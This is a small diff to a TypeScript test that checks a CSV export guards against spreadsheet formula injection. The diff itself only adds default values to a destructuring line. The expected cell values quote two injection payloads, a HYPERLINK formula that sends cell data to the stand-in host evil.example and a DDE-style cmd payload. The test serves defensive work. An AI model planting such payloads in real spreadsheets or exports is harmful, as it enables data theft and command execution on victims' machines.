@@ -47,7 +47,7 @@ function hostile(): ForecastDTO {
 
 describe("CSV export guards against formula injection", () => {
   it("prefixes a single quote to every text cell a spreadsheet would run as a formula", () => {
-    const [header, row] = parse(formatExport([hostile()], "csv")) as string[][];
+    const [header = [], row = []] = parse(formatExport([hostile()], "csv")) as string[][];
     const cell = (name: string) => row[header.indexOf(name)];
     expect(cell("quote")).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"click")`);
     expect(cell("question")).toBe("'+cmd|' /C calc'!A0?");
